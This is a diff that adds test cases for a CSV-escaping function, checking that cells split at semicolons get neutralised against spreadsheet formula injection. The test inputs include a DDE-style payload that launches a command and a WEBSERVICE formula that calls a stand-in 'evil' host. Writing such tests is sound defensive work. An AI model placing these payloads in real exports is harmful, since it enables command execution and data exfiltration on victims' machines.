@@ -20,6 +20,11 @@ describe('csvField', () => {
     { cell: '\tindented', field: "'\tindented" },
     { cell: '\rreturn first', field: `"'\rreturn first"` },
     { cell: 'a=b', field: 'a=b' },
+    // Where Excel splits lines at semicolons, each part after one is a cell of its own.
+    { cell: "x;-1+cmd|' /C calc'!A0", field: "x;'-1+cmd|' /C calc'!A0" },
+    { cell: 'Ada;=WEBSERVICE("http://evil")', field: '"Ada;\'=WEBSERVICE(""http://evil"")"' },
+    { cell: ';@SUM(A1)', field: ";'@SUM(A1)" },
+    { cell: '=1;+2', field: "'=1;'+2" },
     { cell: 42, field: '42' },
     { cell: -1.5, field: '-1.5' },
     { cell: 0, field: '0' },
